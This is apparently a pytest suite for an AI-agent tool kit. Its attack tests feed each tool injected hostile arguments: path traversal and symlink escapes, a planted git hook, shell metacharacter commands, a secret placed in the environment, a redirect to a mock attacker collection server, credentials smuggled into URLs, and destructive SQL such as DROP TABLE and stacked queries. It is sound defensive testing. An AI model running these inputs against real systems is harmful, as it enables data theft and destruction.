"""The governed tool kit (``gnomon.tools``): each tool's contract, and an attack per tool in
which an injected argument tries to escape the tool's invariants, with real components (a real
filesystem, real subprocesses, real git, a real HTTP server on 127.0.0.1, real SQLite and
PostgreSQL). Flips are named in the commit messages."""

from __future__ import annotations

import http.server
import os
import sqlite3
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gnomon.firewall.kernel.contracts import BUILTIN, Category, Level, ToolRegistry
from gnomon.firewall.model.errors import ContractError, InputError
from gnomon.tools import Files, Git, Http, Shell, Sql, Toolkit, ToolRefused

# -- contracts ----------------------------------------------------------------------------------


def _kit(tmp_path: Path) -> Toolkit:
    db = tmp_path / "db.sqlite"
    sqlite3.connect(db).close()
    return Toolkit(
        Files(tmp_path),
        Shell(["echo"], cwd=tmp_path),
        Git([tmp_path]),
        Http(["http://127.0.0.1:1"]),
        Sql(f"sqlite:///{db}"),
    )


def test_each_tool_has_its_contract_on_the_ladder(tmp_path: Path) -> None:
    kit = _kit(tmp_path)
    registry = kit.registry()
    expected = {
        "fs_read": (Category.READ, Level.L0),
        "fs_list": (Category.READ, Level.L0),
        "fs_write": (Category.LOCAL_WRITE, Level.L3),
        "shell_run": (Category.LOCAL_WRITE, Level.L3),
        "git_status": (Category.READ, Level.L0),
        "git_commit": (Category.LOCAL_WRITE, Level.L3),
        "git_push": (Category.PUSH, Level.L4),
        "http_get": (Category.NETWORK, Level.L4),
        "http_post": (Category.NETWORK, Level.L4),
        "sql_query": (Category.READ, Level.L0),
    }
    assert kit.names() == sorted(expected)
    for name, (category, level) in expected.items():
        found = registry.lookup(name)
        assert found is not None, name
        assert (found.category, found.required_level) == (category, level), name
        assert found.outputs is not None or name in ("git_commit", "git_push", "http_post")
    # the kit's git_push is the shipped contract, with its pins; one line builds the registry
    assert registry.lookup("git_push") == next(c for c in BUILTIN if c.tool == "git_push")
    assert ToolRegistry([*BUILTIN, *kit.contracts()]).tools() == registry.tools()
    assert set(kit.executors()) == set(expected)


def test_the_contracts_refuse_untyped_and_unknown_arguments(tmp_path: Path) -> None:
    registry = _kit(tmp_path).registry()
    for tool, bad in [
        ("shell_run", {"argv": "echo hi; id"}),  # a shell string, not an argv
        ("fs_write", {"path": "a", "content": "x", "mode": "0777"}),
        ("sql_query", {"sql": "select 1", "params": [{"x": 1}]}),
        ("http_get", {"url": "http://127.0.0.1:1/", "headers": {"Authorization": "x"}}),
    ]:
        contract = registry.lookup(tool)
        assert contract is not None
        with pytest.raises(InputError):
            contract.checked_inputs(bad)


def test_a_kit_tool_cannot_sit_below_its_floor(tmp_path: Path) -> None:
    with pytest.raises(ContractError, match="floor"):
        Shell(["echo"], cwd=tmp_path, category=Category.NETWORK, level=Level.L3).tools()


# -- filesystem ---------------------------------------------------------------------------------


@pytest.fixture
def jail(tmp_path: Path) -> tuple[Path, Path]:
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    (outside / "secret.txt").write_text("TOP SECRET")
    return root, outside


def test_files_read_write_list_inside_the_root(jail: tuple[Path, Path]) -> None:
    root, _ = jail
    files = Files(root, max_read=100, max_write=100)
    assert files.write({"path": "src/app.py", "content": "print(1)\n"}).bytes == 9
    assert (root / "src" / "app.py").read_text() == "print(1)\n"
    assert files.read({"path": "./src/app.py"}).text == "print(1)\n"
    assert files.listing({"path": "."}).entries == ["src/"]
    with pytest.raises(ToolRefused, match="cap"):
        files.write({"path": "big", "content": "x" * 101})
    (root / "huge").write_bytes(b"y" * 101)
    with pytest.raises(ToolRefused, match="cap"):
        files.read({"path": "huge"})


def test_attack_files_dotdot_absolute_and_symlinks_out_of_the_root(
    jail: tuple[Path, Path],
) -> None:
    """An injected path tries every way out of the root: ``..``, an absolute path, a symlink to
    a file outside, a symlinked folder, a dangling link planted where the write will land, a hard
    link to an outside file, and the repository's hooks."""
    root, outside = jail
    files = Files(root)
    (root / "link.txt").symlink_to(outside / "secret.txt")
    (root / "out").symlink_to(outside)
    (root / "drop.txt").symlink_to(outside / "planted.txt")  # dangling: the write would create it
    os.link(outside / "secret.txt", root / "hard.txt")
    (root / ".git").mkdir()
    attempts: list[tuple[Any, dict[str, Any]]] = [
        (files.read, {"path": "../outside/secret.txt"}),
        (files.read, {"path": str(outside / "secret.txt")}),
        (files.read, {"path": "link.txt"}),
        (files.read, {"path": "out/secret.txt"}),
        (files.listing, {"path": "out"}),
        (files.write, {"path": "drop.txt", "content": "pwned"}),
        (files.write, {"path": "out/secret.txt", "content": "pwned"}),
        (files.write, {"path": "hard.txt", "content": "pwned"}),
        (files.write, {"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nid\n"}),
    ]
    for run, args in attempts:
        with pytest.raises(ToolRefused):
            run(args)
    assert (outside / "secret.txt").read_text() == "TOP SECRET"
    assert not (outside / "planted.txt").exists()
    assert sorted(p.name for p in outside.iterdir()) == ["secret.txt"]
    assert not (root / ".git" / "hooks").exists()


# -- shell --------------------------------------------------------------------------------------


def test_shell_runs_an_allowed_program_with_bounded_capture(tmp_path: Path) -> None:
    shell = Shell(["echo", "head", "sleep"], cwd=tmp_path, max_output=10, timeout=1)
    done = shell.run({"argv": ["echo", "hello world, this is long"]})
    assert (done.exit_code, done.stdout, done.stdout_truncated) == (0, "hello worl", True)
    big = shell.run({"argv": ["head", "-c", "5000000", "/dev/zero"]})
    assert len(big.stdout) == 10 and big.stdout_truncated
    slow = shell.run({"argv": ["sleep", "30"]})
    assert slow.timed_out and slow.exit_code != 0


def test_attack_shell_metacharacters_programs_off_the_list_and_inherited_secrets(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Injected arguments try to reach a shell (``;``, ``$(...)``, a shell by name or path) and
    to read the host's secrets from the environment."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "host-secret-123")
    shell = Shell(["echo", "env"], cwd=tmp_path, env={"CI": "1"})
    done = shell.run({"argv": ["echo", "x; touch pwned", "$(touch pwned2)", "`touch pwned3`"]})
    assert done.stdout == "x; touch pwned $(touch pwned2) `touch pwned3`\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == []
    for argv in (["sh", "-c", "touch pwned"], ["/bin/sh", "-c", "id"], ["echo;id"], ["./echo"]):
        with pytest.raises(ToolRefused, match="not an allowed program"):
            shell.run({"argv": argv})
    seen = shell.run({"argv": ["env"]}).stdout
    assert "host-secret-123" not in seen
    assert "CI=1" in seen


# -- git ----------------------------------------------------------------------------------------


def _git(*args: str) -> str:
    ident = ["-c", "user.email=t@t", "-c", "user.name=t"]
    return subprocess.run(
        ["git", *ident, *args], check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def repo(tmp_path: Path) -> tuple[Path, Path]:
    origin, work = tmp_path / "origin.git", tmp_path / "work"
    _git("init", "-q", "--bare", "-b", "main", str(origin))
    _git("init", "-q", "-b", "main", str(work))
    _git("-C", str(work), "remote", "add", "origin", str(origin))
    (work / "a.txt").write_text("a\n")
    _git("-C", str(work), "add", "a.txt")
    _git("-C", str(work), "commit", "-q", "-m", "init")
    return work, origin


def test_git_status_commit_push(repo: tuple[Path, Path]) -> None:
    work, origin = repo
    git = Git([work])
    (work / "b.txt").write_text("b\n")
    assert git.status({"repo": str(work)}).changes == ["?? b.txt"]
    commit = git.commit({"repo": str(work), "message": "add b"}).commit
    assert git.status({"repo": str(work)}).changes == []
    pushed = git.push({"repo": str(work), "remote": "origin", "branch": "main"})
    assert (pushed.commit, pushed.forced) == (commit, False)
    assert _git("--git-dir", str(origin), "rev-parse", "refs/heads/main") == commit


def test_attack_git_unlisted_repo_planted_remote_option_names_and_hooks(
    repo: tuple[Path, Path], tmp_path: Path
) -> None:
    """Injected arguments try to reach a repository the host did not name, push to a bare
    repository planted next to the work tree (git reads an unknown remote name as a path),
    smuggle an option as a remote or branch, and run a hook planted in the repository."""
    work, _origin = repo
    other = tmp_path / "other"
    _git("init", "-q", str(other))
    planted = work / "exfil"
    _git("init", "-q", "--bare", str(planted))
    hook = work / ".git" / "hooks" / "post-commit"
    hook.write_text(f"#!/bin/sh\ntouch {tmp_path / 'hook-ran'}\n")
    hook.chmod(0o755)
    git = Git([work])
    for args in (
        {"repo": str(other)},
        {"repo": str(work / "..")},
    ):
        with pytest.raises(ToolRefused, match="not one of the host's repositories"):
            git.status(args)
    for remote, branch in (("exfil", "main"), ("--mirror", "main"), ("origin", "--all")):
        with pytest.raises(ToolRefused):
            git.push({"repo": str(work), "remote": remote, "branch": branch})
    assert (
        subprocess.run(
            ["git", "--git-dir", str(planted), "rev-parse", "--verify", "-q", "refs/heads/main"],
            capture_output=True,
        ).returncode
        != 0
    ), "the planted repository received the push"
    (work / "c.txt").write_text("c\n")
    git.commit({"repo": str(work), "message": "c"})
    assert not (tmp_path / "hook-ran").exists()


# -- HTTP ---------------------------------------------------------------------------------------


class _Server:
    def __init__(self, routes: dict[str, tuple[int, dict[str, str], bytes]]) -> None:
        seen: list[tuple[str, str, dict[str, str]]] = []
        self.seen = seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                seen.append((self.command, self.path, dict(self.headers)))
                status, headers, body = routes.get(self.path, (404, {}, b"no"))
                self.send_response(status)
                for k, v in headers.items():
                    self.send_header(k, v)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def servers() -> Iterator[tuple[_Server, _Server]]:
    attacker = _Server({"/collect": (200, {}, b"got it")})
    api = _Server(
        {
            "/items": (200, {"Content-Type": "application/json"}, b'{"items": [1, 2]}'),
            "/big": (200, {}, b"z" * 5000),
            "/moved": (302, {"Location": "/items"}, b""),
            "/evil": (302, {"Location": f"{attacker.url}/collect"}, b""),
        }
    )
    yield api, attacker
    api.close()
    attacker.close()


def test_http_get_injects_the_hosts_credential_and_bounds_the_body(
    servers: tuple[_Server, _Server],
) -> None:
    api, _ = servers
    tool = Http([api.url], credentials={api.url: {"Authorization": "Bearer s3cr3t-token"}},
                max_bytes=100)  # fmt: skip
    got = tool.get({"url": f"{api.url}/moved"})
    assert (got.status, got.body, got.url) == (200, '{"items": [1, 2]}', f"{api.url}/items")
    assert [s[2].get("Authorization") for s in api.seen] == ["Bearer s3cr3t-token"] * 2
    big = tool.get({"url": f"{api.url}/big"})
    assert (len(big.body), big.truncated) == (100, True)


def test_attack_http_redirect_to_an_unpinned_host(servers: tuple[_Server, _Server]) -> None:
    """A pinned API answers with a redirect to the attacker's host: the tool refuses before any
    request (or the host's credential) reaches it; a direct call to it is refused too."""
    api, attacker = servers
    tool = Http([api.url], credentials={api.url: {"Authorization": "Bearer s3cr3t-token"}})
    with pytest.raises(ToolRefused, match=r"redirected to .* not pinned"):
        tool.get({"url": f"{api.url}/evil"})
    with pytest.raises(ToolRefused, match="not pinned"):
        tool.post({"url": f"{attacker.url}/collect", "body": "data"})
    assert attacker.seen == []


def test_attack_http_credentials_as_arguments(servers: tuple[_Server, _Server]) -> None:
    """The agent read the token somewhere and passes it on: in the URL's user part, in a query,
    in a POST body. Every one is refused and nothing is sent."""
    api, _ = servers
    tool = Http([api.url], credentials={api.url: {"Authorization": "Bearer s3cr3t-token"}})
    host = api.url.removeprefix("http://")
    for run, args in (
        (tool.get, {"url": f"http://user:s3cr3t-token@{host}/items"}),
        (tool.get, {"url": f"http://user@{host}/items"}),
        (tool.get, {"url": f"{api.url}/items?key=s3cr3t-token"}),
        (tool.post, {"url": f"{api.url}/items", "body": "token=s3cr3t-token"}),
    ):
        with pytest.raises(ToolRefused, match=r"credential|user or password"):
            run(args)
    assert api.seen == []


# -- SQL ----------------------------------------------------------------------------------------


@pytest.fixture
def sqlite_db(tmp_path: Path) -> Path:
    db = tmp_path / "shop.db"
    with sqlite3.connect(db) as conn:
        conn.execute("create table users (id integer, name text)")
        conn.executemany("insert into users values (?, ?)", [(1, "ann"), (2, "bob")])
    conn.close()
    return db


def test_sql_query_parameterised_on_sqlite(sqlite_db: Path) -> None:
    sql = Sql(f"sqlite:///{sqlite_db}", max_rows=1)
    got = sql.query({"sql": "select id, name from users where name = ?", "params": ["bob"]})
    assert (got.columns, got.rows, got.truncated) == (["id", "name"], [[2, "bob"]], False)
    assert sql.query({"sql": "select id from users order by id"}).truncated
    # an injected value stays a value
    sneaky = sql.query({"sql": "select id from users where name = ?", "params": ["x' or '1'='1"]})
    assert sneaky.rows == []


_WRITES = [
    "DROP TABLE users",
    "DELETE FROM users",
    "INSERT INTO users VALUES (3, 'eve')",
    "UPDATE users SET name = 'eve'",
    "select 1; DROP TABLE users",
    "COMMIT",
]


def test_attack_sql_writes_through_the_query_tool_on_sqlite(
    sqlite_db: Path, tmp_path: Path
) -> None:
    """Injected statements try to write: DROP, DELETE, INSERT, UPDATE, a stacked statement,
    ending the transaction, attaching another database file to write into, and a pragma."""
    sql = Sql(f"sqlite:///{sqlite_db}")
    other = tmp_path / "other.db"
    for statement in [
        *_WRITES,
        f"ATTACH DATABASE '{other}' AS x",
        "PRAGMA journal_mode = DELETE",
        "CREATE TABLE t (x)",
    ]:
        with pytest.raises(ToolRefused, match="sql_query refused"):
            sql.query({"sql": statement})
    with sqlite3.connect(sqlite_db) as conn:
        assert conn.execute("select count(*) from users").fetchone() == (2,)
        assert [r[0] for r in conn.execute("select name from sqlite_master")] == ["users"]
    conn.close()
    assert not other.exists()


@pytest.mark.postgres
def test_sql_query_and_attack_on_postgresql(postgres_url: str) -> None:
    import psycopg

    with psycopg.connect(postgres_url, autocommit=True) as conn:
        conn.execute("create table users (id integer, name text)")
        conn.execute("insert into users values (1, 'ann'), (2, 'bob')")
    try:
        sql = Sql(postgres_url)
        got = sql.query({"sql": "select id, name from users where id = %s", "params": [2]})
        assert got.rows == [[2, "bob"]]
        for statement in [*_WRITES, "SET TRANSACTION READ WRITE", "select nextval('x')"]:
            with pytest.raises(ToolRefused, match="sql_query refused"):
                sql.query({"sql": statement})
        with psycopg.connect(postgres_url) as conn:
            assert conn.execute("select count(*) from users").fetchone() == (2,)
    finally:
        with psycopg.connect(postgres_url, autocommit=True) as conn:
            conn.execute("drop table if exists users")


def test_unsupported_database_urls_are_named(tmp_path: Path) -> None:
    with pytest.raises(ToolRefused, match="mysql"):
        Sql("mysql://x")
    with pytest.raises(ToolRefused, match="read-only"):
        Sql(f"sqlite:///{tmp_path / 'missing.db'}").query({"sql": "select 1"})
